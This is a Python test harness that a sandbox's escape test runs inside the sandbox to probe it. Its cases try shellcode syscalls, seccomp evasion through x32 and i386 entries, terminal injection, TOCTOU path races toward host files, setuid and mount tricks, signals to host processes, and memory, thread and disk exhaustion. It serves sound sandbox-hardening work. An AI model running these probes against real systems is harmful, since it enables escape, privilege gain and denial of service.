# Attack programs run INSIDE a real Comet by tests/escape/escape_test.cc.
#
# `attack.py GROUP [ARGS...]` runs every case of GROUP in one Comet and prints one line per
# case: "CASE <name> ok[ detail]" when the attempt worked, "CASE <name> errno=NAME" when the
# kernel (or the supervisor) refused it, "CASE <name> error=TYPE" for other exceptions.
# Exec targets print "ESCAPED" if they ever run. The host-side driver decides what is safe;
# this program only tries and reports. Every attack here is written so that a success does
# not damage the host (writes open without writing, children exit at once).
import base64
import ctypes
import errno
import fcntl
import hashlib
import mmap
import os
import resource
import shutil
import signal
import socket
import stat
import struct
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

ESC = ["/usr/bin/python3", "-c", "print('ESCAPED', flush=True)"]


def report(name, status):
    print("CASE %s %s" % (name, status), flush=True)


def case(name, fn):
    try:
        detail = fn()
    except OSError as e:
        report(name, "errno=" + errno.errorcode.get(e.errno, str(e.errno)))
        return
    except Exception as e:  # noqa: BLE001 - the driver wants to see every outcome
        report(name, "error=" + type(e).__name__)
        return
    report(name, "ok" + ("" if detail is None else " " + str(detail)))


def sysc(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_ulong(a & 0xFFFFFFFFFFFFFFFF) if isinstance(a, int)
                                          else a for a in args])
    if r == -1:
        raise OSError(ctypes.get_errno(), "syscall %d" % nr)
    return r


_pages = []


def shellcode(code, restype=ctypes.c_long):
    m = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS,
                  prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    m.write(code)
    _pages.append(m)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
    return ctypes.CFUNCTYPE(restype)(addr)


def raw_child_syscall(nr, rdi):
    """syscall(nr, rdi, 0, 0, 0, 0) from machine code; a child (rax == 0) exits at once
    without touching the stack, so fork, vfork and clone(CLONE_VM) are all safe to try."""
    code = (b"\x48\xb8" + struct.pack("<Q", nr) + b"\x48\xbf" + struct.pack("<Q", rdi & (2**64 - 1)) +
            b"\x31\xf6\x31\xd2\x45\x31\xd2\x45\x31\xc0\x0f\x05"
            b"\x48\x85\xc0\x75\x0c"
            b"\xb8\x3c\x00\x00\x00\xbf\x2a\x00\x00\x00\x0f\x05"
            b"\xc3")
    r = shellcode(code)()
    if -4096 < r < 0:
        raise OSError(-r, "raw")
    return r


def int80(nr, a=0, b=0, c=0):
    """An i386 syscall through int 0x80; returns the raw 32-bit result."""
    code = (b"\x53\xb8" + struct.pack("<I", nr) + b"\xbb" + struct.pack("<I", a) + b"\xb9" + struct.pack("<I", b) +
            b"\xba" + struct.pack("<I", c) + b"\xcd\x80\x5b\xc3")
    return shellcode(code, ctypes.c_int)()


# A kernel without the i386 entry (CONFIG_IA32_EMULATION off, or booted with
# ia32_emulation=0) answers int 0x80 with #GP: SIGSEGV, which no handler can resume. The test
# finds that out on the host and passes NO_IA32; the cases then say so instead of dying.
NO_IA32 = "no-ia32"
NO_IA32_RESULT = "absent: no int 0x80 entry in this kernel"


def i386(nr, *args):
    def call():
        r = int80(nr, *args)
        if -4096 < r < 0:
            raise OSError(-r, "int80")
        return r
    return call


def cstr_array(items):
    arr = (ctypes.c_char_p * (len(items) + 1))()
    for i, s in enumerate(items):
        arr[i] = s.encode()
    arr[len(items)] = None
    return arr


def execveat(dirfd, path, argv, flags):
    a = cstr_array(argv)
    e = cstr_array([])
    return sysc(322, dirfd, ctypes.c_char_p(path), a, e, flags)


def sha(data):
    return hashlib.sha256(data).hexdigest()[:16]


def allow_all_prog():
    insn = struct.pack("<HBBI", 0x06, 0, 0, 0x7FFF0000)  # BPF_RET|BPF_K SECCOMP_RET_ALLOW
    buf = ctypes.create_string_buffer(insn)
    prog = struct.pack("<HxxxxxxQ", 1, ctypes.addressof(buf))
    pbuf = ctypes.create_string_buffer(prog)
    _pages.append((buf, pbuf))
    return ctypes.addressof(pbuf)


# ---- exec ---------------------------------------------------------------------------------

def os_fork():
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    return pid


def memfd_copy(path="/usr/bin/python3"):
    fd = os.memfd_create("x", 0)
    with open(path, "rb") as f:
        os.write(fd, f.read())
    return fd


def write_exec(path, data):
    with open(path, "wb") as f:
        f.write(data)
    os.chmod(path, 0o755)


def exec_from_thread():
    box = []

    def t():
        try:
            os.execv(ESC[0], ESC)
        except OSError as e:
            box.append(e)
    th = threading.Thread(target=t)
    th.start()
    th.join()
    raise box[0]


def group_exec(args):
    import subprocess
    case("exec.subprocess", lambda: subprocess.run(ESC).returncode)
    case("exec.posix_spawn", lambda: os.posix_spawn(ESC[0], ESC, {}))
    case("exec.os_fork", os_fork)
    case("exec.raw_fork", lambda: raw_child_syscall(57, 0))
    case("exec.raw_vfork", lambda: raw_child_syscall(58, 0))
    case("exec.clone_sigchld", lambda: raw_child_syscall(56, signal.SIGCHLD))
    case("exec.clone_vm_vfork", lambda: raw_child_syscall(56, 0x100 | 0x4000 | signal.SIGCHLD))
    case("exec.clone_thread_bit_high", lambda: raw_child_syscall(56, (0x10000 << 32) | signal.SIGCHLD))
    case("exec.clone_thread_newuser", lambda: raw_child_syscall(56, 0x10000 | 0x800 | 0x100 | 0x10000000))
    case("exec.clone3", lambda: sysc(435, 0, 0))
    case("exec.memfd_execveat", lambda: execveat(memfd_copy(), b"", ESC, 0x1000))
    case("exec.memfd_fexecve", lambda: os.execve(memfd_copy(), ESC, {}))
    case("exec.proc_self_fd", lambda: os.execv("/proc/self/fd/%d" % os.open(ESC[0], os.O_RDONLY), ESC))
    case("exec.proc_self_exe", lambda: os.execv("/proc/self/exe", ESC))
    case("exec.ld_so", lambda: os.execv("/lib64/ld-linux-x86-64.so.2", ["ld.so"] + ESC))
    case("exec.execveat_dirfd", lambda: execveat(os.open("/usr/bin", os.O_RDONLY | os.O_DIRECTORY), b"python3",
                                                 ESC, 0))
    case("exec.shebang_in_out", lambda: (write_exec("/workdir/out/s.py", b"#!/usr/bin/python3\nprint('ESCAPED')\n"),
                                         os.execv("/workdir/out/s.py", ["s.py"])))
    case("exec.copied_interpreter", lambda: (shutil.copyfile(ESC[0], "/workdir/out/py"), os.chmod("/workdir/out/py", 0o755),
                                             os.execv("/workdir/out/py", ESC)))
    case("exec.from_thread", exec_from_thread)
    case("exec.null_path", lambda: sysc(59, 0, 0, 0))
    case("exec.alive", lambda: os.getpid())


# ---- seccomp ------------------------------------------------------------------------------

TIOCSTI, TIOCLINUX = 0x5412, 0x541C


def ioctl(fd, req):
    c = ctypes.c_char(b"x")
    return lambda: sysc(16, fd, req, ctypes.addressof(c))


def pvm_writev_self():
    src = ctypes.create_string_buffer(b"hello")
    dst = ctypes.create_string_buffer(8)
    liov = struct.pack("<QQ", ctypes.addressof(src), 5)
    riov = struct.pack("<QQ", ctypes.addressof(dst), 5)
    lb, rb = ctypes.create_string_buffer(liov), ctypes.create_string_buffer(riov)
    n = sysc(311, os.getpid(), ctypes.addressof(lb), 1, ctypes.addressof(rb), 1, 0)
    return "%d %s" % (n, dst.value.decode())


def group_seccomp(args):
    for fd in (0, 1, 2):
        case("seccomp.tiocsti_fd%d" % fd, ioctl(fd, TIOCSTI))
        case("seccomp.tiocsti_high_fd%d" % fd, ioctl(fd, TIOCSTI | (1 << 32)))
        case("seccomp.tiocsti_allhigh_fd%d" % fd, ioctl(fd, TIOCSTI | 0xFFFFFFFF00000000))
    case("seccomp.tioclinux", ioctl(1, TIOCLINUX))
    case("seccomp.dev_tty_open", lambda: os.open("/dev/tty", os.O_RDWR))
    case("seccomp.x32_getpid", lambda: sysc(39 | 0x40000000))
    case("seccomp.x32_mount", lambda: sysc(165 | 0x40000000, 0, 0, 0, 0, 0))
    case("seccomp.x32_execve", lambda: sysc(520 | 0x40000000, 0, 0, 0))
    case("seccomp.x32_ioctl_tiocsti", lambda: sysc(514 | 0x40000000, 0, TIOCSTI, 0))
    i386_cases = [("getpid", (20,)), ("mount", (21,)), ("ptrace", (26,)), ("execve", (11,)),
                  ("ioctl_tiocsti", (54, 0, TIOCSTI, 0)), ("fork", (2,))]
    for name, call in i386_cases:
        if NO_IA32 in args:  # the host said so: int 0x80 would kill this process (SIGSEGV)
            report("seccomp.i386_" + name, NO_IA32_RESULT)
        else:
            case("seccomp.i386_" + name, i386(*call))
    prog = allow_all_prog()
    case("seccomp.filter_new_listener", lambda: sysc(317, 1, 8, prog))
    case("seccomp.filter_tsync", lambda: sysc(317, 1, 1, prog))
    case("seccomp.filter_plain", lambda: sysc(317, 1, 0, prog))
    case("seccomp.get_notif_sizes", lambda: sysc(317, 3, 0, ctypes.addressof(ctypes.create_string_buffer(8))))
    case("seccomp.prctl_set_seccomp", lambda: sysc(157, 22, 2, prog))
    case("seccomp.prctl_set_seccomp_high", lambda: sysc(157, 22 | (1 << 32), 2, prog))
    case("seccomp.personality_read_implies_exec", lambda: sysc(135, 0x0400000))
    case("seccomp.personality_rie_high", lambda: sysc(135, 0x0400000 | (1 << 40)))
    case("seccomp.personality_query", lambda: sysc(135, 0xFFFFFFFF))
    case("seccomp.process_vm_writev_self", pvm_writev_self)
    case("seccomp.pidfd_open_1", lambda: sysc(434, 1, 0))
    case("seccomp.pidfd_getfd", lambda: sysc(438, 0, 0, 0))
    case("seccomp.ptrace_attach_1", lambda: sysc(101, 16, 1, 0, 0))
    case("seccomp.ptrace_seize_1", lambda: sysc(101, 0x4206, 1, 0, 0))
    case("seccomp.ptrace_traceme", lambda: sysc(101, 0, 0, 0, 0))
    case("seccomp.unshare_user", lambda: sysc(272, 0x10000000))
    case("seccomp.unshare_zero", lambda: sysc(272, 0))
    case("seccomp.setns", lambda: sysc(308, os.open("/proc/self/ns/user", os.O_RDONLY), 0))
    case("seccomp.socket_netlink", lambda: socket.socket(16, socket.SOCK_RAW, 12).fileno())  # NETLINK_NETFILTER
    case("seccomp.socket_packet", lambda: socket.socket(17, socket.SOCK_RAW, 0).fileno())
    case("seccomp.socket_raw_inet", lambda: socket.socket(2, socket.SOCK_RAW, 1).fileno())
    case("seccomp.socket_netlink_high", lambda: sysc(41, 16 | (1 << 32), 3, 12))
    case("seccomp.setrlimit_nofile_raise", lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20)))
    case("seccomp.seccomp_strict", lambda: sysc(317, 0, 0, 0))
    case("seccomp.alive", lambda: os.getpid())


# ---- the sweep --------------------------------------------------------------------------

SWEEP_SKIP = {15: "rt_sigreturn", 23: "select", 34: "pause", 56: "clone", 57: "fork", 58: "vfork",
              59: "execve", 60: "exit", 231: "exit_group", 270: "pselect6", 271: "ppoll",
              317: "seccomp", 322: "execveat", 3: "close", 335: "uretprobe"}
I386_SKIP = {1, 2, 11, 29, 72, 82, 119, 120, 142, 173, 179, 190, 252, 308, 309, 358, 435, 6}


def group_sweep(args):
    for nr in range(0, 470):
        if nr in SWEEP_SKIP:
            continue
        ctypes.set_errno(0)
        r = libc.syscall(ctypes.c_long(nr), ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0),
                         ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0))
        e = ctypes.get_errno()
        report("sweep.%d" % nr, ("errno=" + errno.errorcode.get(e, str(e))) if r == -1 else "ok %d" % r)
    bad = []
    for nr in range(0, 548):
        r = libc.syscall(ctypes.c_long(nr | 0x40000000), *[ctypes.c_long(0)] * 6)
        if not (r == -1 and ctypes.get_errno() == errno.ENOSYS):
            bad.append(nr)
    report("sweep.x32_all", "ok bad=" + ",".join(map(str, bad)))
    bad = []
    for nr in range(0, 451):
        if NO_IA32 in args:
            break
        if nr in I386_SKIP:
            continue
        if int80(nr) != -errno.ENOSYS:
            bad.append(nr)
    report("sweep.i386_all", NO_IA32_RESULT if NO_IA32 in args else "ok bad=" + ",".join(map(str, bad)))
    # uretprobe (335): the kernel runs it before seccomp (passthrough by design) and, outside
    # a uretprobe trampoline, answers with SIGILL; catch it to record what happened.
    got = []
    old = signal.signal(signal.SIGILL, lambda *a: got.append(1))
    r = libc.syscall(ctypes.c_long(335), *[ctypes.c_long(0)] * 6)
    signal.signal(signal.SIGILL, old)
    report("sweep.335", "ok %d sigill=%d" % (r, len(got)))
    report("sweep.done", "ok")


# ---- the observer --------------------------------------------------------------------------

def toctou(name, a, b, flags=os.O_RDONLY, iterations=3000, mode=0o644):
    size = max(len(a), len(b)) + 1
    buf = ctypes.create_string_buffer(size)
    pa, pb = a.encode() + b"\0", b.encode() + b"\0"
    stop = threading.Event()

    def flipper():
        while not stop.is_set():
            ctypes.memmove(buf, pa, len(pa))
            ctypes.memmove(buf, pb, len(pb))

    digests, opened, failed = {}, 0, 0
    t = threading.Thread(target=flipper)
    t.start()
    try:
        for _ in range(iterations):
            fd = libc.open(buf, flags, mode)
            if fd < 0:
                failed += 1
                continue
            opened += 1
            if flags == os.O_RDONLY:
                data = b""
                while True:
                    chunk = os.read(fd, 65536)
                    if not chunk:
                        break
                    data += chunk
                d = sha(data)
                digests[d] = digests.get(d, 0) + 1
            os.close(fd)
    finally:
        stop.set()
        t.join()
    report(name, "ok opened=%d failed=%d digests=%s" % (opened, failed, ",".join(sorted(digests))))


def group_observer(args):
    canary, canary_dir = args[0], args[1]
    with open("/etc/passwd", "rb") as f:
        report("observer.sandbox_passwd", "ok " + sha(f.read()))
    with open("/workdir/attack.py", "rb") as f:
        report("observer.attack_py", "ok " + sha(f.read()))
    toctou("observer.toctou_passwd", "/workdir/attack.py", "/etc/passwd")
    toctou("observer.toctou_canary", "/workdir/attack.py", canary)
    toctou("observer.toctou_proc_root", "/workdir/attack.py", "/proc/1/root/../../../.." + canary)
    toctou("observer.toctou_write", "/workdir/out/t", canary_dir + "/pwned", flags=os.O_WRONLY | os.O_CREAT,
           iterations=1000)
    toctou("observer.toctou_write_setuid", "/workdir/out/t2", canary_dir + "/pwned2",
           flags=os.O_WRONLY | os.O_CREAT, iterations=500, mode=0o6755)


def open_loop(stop, counter, path="/workdir/attack.py"):
    while not stop.is_set():
        try:
            os.close(os.open(path, os.O_RDONLY))
            counter.append(1)
        except OSError:
            counter.append(0)


def flood(threads, count):
    fails = []

    def w():
        n = 0
        for _ in range(count):
            try:
                os.close(os.open("/workdir/attack.py", os.O_RDONLY))
            except OSError:
                n += 1
        fails.append(n)
    ts = [threading.Thread(target=w) for _ in range(threads)]
    t0 = time.monotonic()
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    return "%d in %.1fs" % (sum(fails), time.monotonic() - t0)


def signal_storm():
    signal.signal(signal.SIGUSR1, lambda *a: None)
    stop, counter = threading.Event(), []
    ts = [threading.Thread(target=open_loop, args=(stop, counter)) for _ in range(4)]
    for t in ts:
        t.start()
    for _ in range(500):
        time.sleep(0.001)
        for t in ts:
            try:
                signal.pthread_kill(t.ident, signal.SIGUSR1)
            except ProcessLookupError:
                pass
    stop.set()
    for t in ts:
        t.join()
    return "opens=%d failed=%d" % (len(counter), counter.count(0))


def short_lived_threads():
    n = 0
    for _ in range(50):
        ts = [threading.Thread(target=lambda: os.close(os.open("/workdir/attack.py", os.O_RDONLY)))
              for _ in range(8)]
        for t in ts:
            t.start()
        for t in ts:
            t.join()
        n += len(ts)
    return n


def open_at_page_end(path, terminate):
    """open() of a path whose bytes end exactly at the end of a page followed by an
    inaccessible page: with the NUL as the page's last byte, or without any NUL."""
    m = mmap.mmap(-1, 8192, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    base = ctypes.addressof(ctypes.c_char.from_buffer(m))
    data = path.encode() + (b"\0" if terminate else b"")
    ctypes.memmove(base + 4096 - len(data), data, len(data))
    libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    if libc.mprotect(ctypes.c_void_p(base + 4096), 4096, 0) != 0:
        raise OSError(ctypes.get_errno(), "mprotect")
    fd = libc.open(ctypes.c_void_p(base + 4096 - len(data)), os.O_RDONLY)
    e = ctypes.get_errno()
    _pages.append(m)
    if fd < 0:
        raise OSError(e, "open")
    os.close(fd)


def group_observer2(args):
    case("observer.open_null", lambda: sysc(257, -100 & (2**64 - 1), 0, 0))
    case("observer.open_unmapped", lambda: sysc(2, 0xdead0000, 0))
    case("observer.open_kernel_address", lambda: sysc(2, 0xffffffffff600000, 0))
    case("observer.open_page_end", lambda: open_at_page_end("/workdir/attack.py", True))
    case("observer.open_page_end_unterminated", lambda: open_at_page_end("/workdir/attack.py", False))
    case("observer.open_long_path", lambda: os.open("/workdir/" + "a" * 5000, os.O_RDONLY))
    case("observer.open_long_dotdots", lambda: os.open("/workdir/" + "../" * 1300 + "workdir/attack.py",
                                                       os.O_RDONLY) and None)
    case("observer.flood_16x625", lambda: flood(16, 625))
    case("observer.signal_storm", signal_storm)
    case("observer.short_lived_threads", short_lived_threads)
    # Exit the whole thread group while 16 threads are blocked in notifications.
    stop, counter = threading.Event(), []
    for _ in range(16):
        threading.Thread(target=open_loop, args=(stop, counter), daemon=True).start()
    time.sleep(0.3)
    report("observer.exit_mid_notification", "ok opens=%d" % len(counter))
    os._exit(0)


# ---- filesystem ---------------------------------------------------------------------------

def fd_scan():
    listed = sorted(int(x) for x in os.listdir("/proc/self/fd"))
    live = []
    for fd in range(3, 1025):
        try:
            os.fstat(fd)
            live.append(fd)
        except OSError:
            pass
    return "listed=%s live=%s" % (",".join(map(str, listed)), ",".join(map(str, live)))


def libc_path():
    with open("/proc/self/maps") as f:
        for line in f:
            if "libc.so.6" in line:
                return line.split()[-1]
    raise RuntimeError("no libc")


def open_no_write(path, flags):
    fd = os.open(path, flags)
    os.close(fd)  # never write: a success is the finding, not damage
    return "OPENED"


def mmap_shared_write(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        m = mmap.mmap(fd, 4096, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ | mmap.PROT_WRITE)
        m.close()
        return "MAPPED"
    finally:
        os.close(fd)


def handle_at():
    buf = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("<I", buf, 0, 128)
    mount_id = ctypes.c_int()
    sysc(303, -100 & (2**64 - 1), ctypes.c_char_p(b"/workdir/attack.py"), ctypes.addressof(buf),
         ctypes.addressof(mount_id), 0)
    return sysc(304, 0, ctypes.addressof(buf), 0)


def handle_at_forged():
    # A forged ext4 handle for the root inode (2) of whatever fs fd 0 lives on.
    buf = ctypes.create_string_buffer(struct.pack("<Ii", 8, 1) + struct.pack("<II", 2, 0))
    return sysc(304, os.open("/workdir/attack.py", os.O_RDONLY), ctypes.addressof(buf), 0)


def setuid_create():
    fd = os.open("/workdir/out/suid_create", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o6755)
    os.close(fd)
    return oct(os.stat("/workdir/out/suid_create").st_mode)


def setuid_mknod():
    os.mknod("/workdir/out/suid_mknod", stat.S_IFREG | 0o6755)
    return oct(os.stat("/workdir/out/suid_mknod").st_mode)


def chmod_variant(name, fn):
    path = "/workdir/out/" + name
    with open(path, "wb") as f:
        f.write(b"#!/bin/sh\n")
    fn(path)
    return oct(os.stat(path).st_mode)


def hardlink_multiply():
    with open("/workdir/out/big", "wb") as f:
        f.write(b"A" * (3 << 20))
    for i in range(12):
        os.link("/workdir/out/big", "/workdir/out/big.link%d" % i)
    return "13 names x 3MiB"


def deep_dirs():
    p = "/workdir/out/deep"
    os.mkdir(p)
    fd = os.open(p, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(600):
        os.mkdir("d", dir_fd=fd)
        nfd = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = nfd
    with open("x", "wb", opener=lambda p_, fl: os.open(p_, fl, 0o644, dir_fd=fd)) as f:
        f.write(b"deep")
    os.close(fd)
    return 600


def group_fs(args):
    canary, canary_dir = args[0], args[1]
    case("fs.fd_scan", fd_scan)
    case("fs.read_host_canary", lambda: open(canary, "rb").read())
    case("fs.write_host_dir", lambda: open(canary_dir + "/pwned", "wb").close())
    case("fs.proc_root_canary", lambda: open("/proc/self/root" + canary, "rb").read())
    out_fd = os.open("/workdir/out", os.O_RDONLY | os.O_DIRECTORY)
    case("fs.openat_dotdot_from_out", lambda: os.open("../../../../.." + canary, os.O_RDONLY, dir_fd=out_fd))
    case("fs.proc_self_cwd_canary", lambda: os.open("/proc/self/cwd/../../../.." + canary, os.O_RDONLY))
    case("fs.proc_fd_dir_canary", lambda: os.open("/proc/self/fd/%d/../../../.." % out_fd + canary, os.O_RDONLY))
    os.close(out_fd)
    case("fs.write_proc_self_exe", lambda: open_no_write("/proc/self/exe", os.O_WRONLY))
    case("fs.rdwr_proc_self_exe", lambda: open_no_write("/proc/self/exe", os.O_RDWR))
    lp = libc_path()
    case("fs.write_libc", lambda: open_no_write(lp, os.O_WRONLY))
    case("fs.write_python_lib", lambda: open_no_write("/usr/lib/python3.11/os.py", os.O_WRONLY | os.O_APPEND))
    case("fs.truncate_libc", lambda: sysc(76, ctypes.c_char_p(lp.encode()), os.stat(lp).st_size))  # same size
    case("fs.mmap_shared_write_libc", lambda: mmap_shared_write(lp))
    case("fs.umount_workdir", lambda: sysc(166, ctypes.c_char_p(b"/workdir"), 2))
    case("fs.umount_root", lambda: sysc(166, ctypes.c_char_p(b"/"), 2))
    case("fs.mount_tmpfs", lambda: sysc(165, ctypes.c_char_p(b"none"), ctypes.c_char_p(b"/workdir"),
                                        ctypes.c_char_p(b"tmpfs"), 0, 0))
    case("fs.mount_bind_remount_rw", lambda: sysc(165, 0, ctypes.c_char_p(b"/usr"), 0, 0x20 | 0x1000, 0))
    case("fs.open_tree", lambda: sysc(428, -100 & (2**64 - 1), ctypes.c_char_p(b"/"), 1))
    case("fs.chroot", lambda: sysc(161, ctypes.c_char_p(b"/workdir/out")))
    case("fs.open_by_handle_at", handle_at)
    case("fs.open_by_handle_forged", handle_at_forged)
    case("fs.link_pack_into_out", lambda: os.link("/workdir/attack.py", "/workdir/out/hl"))
    case("fs.link_python_into_out", lambda: os.link("/usr/bin/python3.11", "/workdir/out/hl2"))
    case("fs.rename_out_to_pack", lambda: (open("/workdir/out/mv", "wb").close(), os.rename("/workdir/out/mv",
                                                                                             "/workdir/mv")))
    case("fs.rename_out_itself", lambda: os.rename("/workdir/out", "/workdir/out2"))
    case("fs.proc_sys_write", lambda: open("/proc/sys/kernel/hostname", "w").write("x"))
    case("fs.proc_sysrq", lambda: open("/proc/sysrq-trigger", "w").close())
    case("fs.sys_exists", lambda: str(os.path.exists("/sys")))
    case("fs.mknod_dev_null", lambda: os.mknod("/workdir/out/devnull", stat.S_IFCHR | 0o666, os.makedev(1, 3)))
    case("fs.mknod_block", lambda: os.mknod("/workdir/out/vda", stat.S_IFBLK | 0o666, os.makedev(253, 0)))
    case("fs.mkfifo_out", lambda: os.mkfifo("/workdir/out/fifo"))
    case("fs.socket_in_out", lambda: socket.socket(socket.AF_UNIX).bind("/workdir/out/sock"))
    case("fs.symlink_to_canary", lambda: os.symlink(canary, "/workdir/out/canary_link"))
    case("fs.symlink_to_etc", lambda: os.symlink("/etc/passwd", "/workdir/out/pw_link"))
    case("fs.symlink_dotdot", lambda: os.symlink("../../../../../../", "/workdir/out/up"))
    case("fs.sparse_1tib", lambda: open("/workdir/out/sparse", "wb").truncate(1 << 40))
    case("fs.setuid_chmod", lambda: chmod_variant("suid_chmod", lambda p: os.chmod(p, 0o4755)))
    case("fs.setgid_chmod", lambda: chmod_variant("sgid_chmod", lambda p: os.chmod(p, 0o2755)))
    case("fs.setuid_chmod_high", lambda: chmod_variant("suid_high", lambda p: sysc(90, ctypes.c_char_p(p.encode()),
                                                                                   0o4755 | (1 << 32))))
    case("fs.setuid_fchmodat2", lambda: chmod_variant("suid_fchmodat2", lambda p: sysc(
        452, -100 & (2**64 - 1), ctypes.c_char_p(p.encode()), 0o4755, 0)))
    case("fs.setuid_create", setuid_create)
    case("fs.setuid_mknod", setuid_mknod)
    case("fs.setxattr_caps", lambda: os.setxattr("/workdir/out/suid_chmod", "security.capability", b"\x01" * 20))
    case("fs.hardlink_multiply", hardlink_multiply)
    case("fs.deep_dirs", deep_dirs)
    case("fs.dir_setgid", lambda: (os.mkdir("/workdir/out/sgid_dir", 0o2777),
                                   oct(os.stat("/workdir/out/sgid_dir").st_mode))[1])
    case("fs.alive", lambda: os.getpid())


# ---- IPC ----------------------------------------------------------------------------------

def connect(addr):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(addr)
    s.sendall(b"ESCAPED")
    return "CONNECTED"


def group_ipc(args):
    abstract, path, host_pid, key = args[0], args[1], int(args[2]), int(args[3], 0)
    case("ipc.abstract_socket", lambda: connect("\0" + abstract))
    case("ipc.pathname_socket", lambda: connect(path))
    case("ipc.tmp_listing", lambda: ",".join(os.listdir("/tmp")))
    case("ipc.kill_host_pid", lambda: os.kill(host_pid, signal.SIGKILL))
    case("ipc.kill_host_pid_sig0", lambda: os.kill(host_pid, 0))
    case("ipc.pidfd_host_pid", lambda: sysc(434, host_pid, 0))
    case("ipc.proc_host_pid", lambda: os.listdir("/proc/%d" % host_pid))
    case("ipc.shmget", lambda: sysc(29, key, 0, 0))
    case("ipc.msgget", lambda: sysc(68, key, 0))
    case("ipc.semget", lambda: sysc(64, key, 0, 0))
    case("ipc.shm_stat_0", lambda: sysc(31, 0, 13, ctypes.addressof(ctypes.create_string_buffer(256))))  # SHM_STAT
    case("ipc.mq_open", lambda: sysc(240, ctypes.c_char_p(b"soyaos-escape"), 0, 0, 0))
    case("ipc.dev_shm", lambda: os.listdir("/dev/shm"))
    case("ipc.kill_all", lambda: os.kill(-1, signal.SIGKILL))
    case("ipc.alive", lambda: os.getpid())


# ---- resources ----------------------------------------------------------------------------

def thread_bomb(n):
    started, stop = 0, threading.Event()
    try:
        for _ in range(n):
            threading.Thread(target=stop.wait, daemon=True).start()
            started += 1
    finally:
        stop.set()
    return started


def alloc(mib):
    blocks = [bytearray(1 << 20) for _ in range(mib)]
    return len(blocks)


def shared_alloc(mib):
    m = mmap.mmap(-1, mib << 20, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    for off in range(0, mib << 20, 4096):
        m[off] = 1
    m.close()
    return mib


def fill(path, size):
    with open(path, "wb") as f:
        chunk = b"\xaa" * 65536
        for _ in range(size // 65536):
            f.write(chunk)
    return size


def fd_exhaust():
    fds = []
    try:
        while len(fds) < 100000:
            fds.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as e:
        n = len(fds)
        for fd in fds:
            os.close(fd)
        return "%s after %d" % (errno.errorcode[e.errno], n)
    return "no limit"


def output_flood(mib):
    chunk = b"F" * (1 << 20)
    out = sys.stdout.buffer
    for _ in range(mib):
        out.write(chunk)
    out.write(b"\n")
    out.flush()
    sys.stderr.buffer.write(b"E" * (8 << 20))
    sys.stderr.flush()
    return mib


def fill_until_full(path, limit):
    """Bytes written into PATH before ENOSPC (or LIMIT). Data is fsync-free: tmpfs
    charges a page when it is written."""
    written = 0
    chunk = b"\xbb" * 65536
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    try:
        while written < limit:
            try:
                n = os.write(fd, chunk)
            except OSError as e:
                if e.errno != errno.ENOSPC:
                    raise
                break
            written += n
    finally:
        os.close(fd)
    return written


def create_until_full(parent, kind, limit=200000):
    """How many empty files or directories fit under PARENT before ENOSPC."""
    n = 0
    while n < limit:
        p = os.path.join(parent, "%s%d" % (kind, n))
        try:
            if kind == "d":
                os.mkdir(p)
            elif kind == "l":
                os.symlink("x", p)
            else:
                os.close(os.open(p, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644))
        except OSError as e:
            if e.errno != errno.ENOSPC:
                raise
            break
        n += 1
    return n


def hog(kind, mib, path=None):
    """Pins MIB MiB of memory that RLIMIT_DATA does not see; returns only if nothing stopped it."""
    size = mib << 20
    page = b"\xcc" * 4096
    if kind == "shared":
        m = mmap.mmap(-1, size, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
        for off in range(0, size, 4096):
            m[off] = 1
        _pages.append(m)
    elif kind == "memfd":
        fd = os.memfd_create("hog", 0)
        chunk = page * 256
        for _ in range(size // len(chunk)):
            os.write(fd, chunk)
        _pages.append(fd)
    elif kind == "memfd_mmap":
        fd = os.memfd_create("hog", 0)
        os.ftruncate(fd, size)
        m = mmap.mmap(fd, size, flags=mmap.MAP_SHARED)
        for off in range(0, size, 4096):
            m[off] = 1
        _pages.append(m)
    elif kind == "tmpfs":
        fd = os.open(path + "/hog", os.O_WRONLY | os.O_CREAT, 0o600)
        chunk = page * 256
        for _ in range(size // len(chunk)):
            os.write(fd, chunk)
        _pages.append(fd)
    elif kind == "devshm":
        if not os.path.exists("/dev/shm"):
            return "absent"
        return hog("tmpfs", mib, "/dev/shm")
    return mib


def inotify_exhaust(limit=10000):
    """inotify_init1 until it fails; the instances stay open (held by _pages)."""
    n = 0
    while n < limit:
        fd = libc.inotify_init1(0o2000000)  # IN_CLOEXEC
        if fd < 0:
            return "%s after %d" % (errno.errorcode.get(ctypes.get_errno(), "?"), n)
        _pages.append(fd)
        n += 1
    return "no limit"


def group_resources(args):
    what = args[0]
    if what == "threads":
        case("res.thread_bomb", lambda: thread_bomb(500))
    elif what == "memory":
        case("res.alloc_512", lambda: alloc(512))
        case("res.alloc_32", lambda: alloc(32))
        case("res.mmap_private_512", lambda: len(mmap.mmap(-1, 512 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)))
        case("res.shared_anon_256", lambda: shared_alloc(256))
    elif what == "quota":
        case("res.fill_past_quota", lambda: fill("/workdir/out/fill", 32 << 20))
    elif what == "hog":
        report("res.hog_start", "ok")
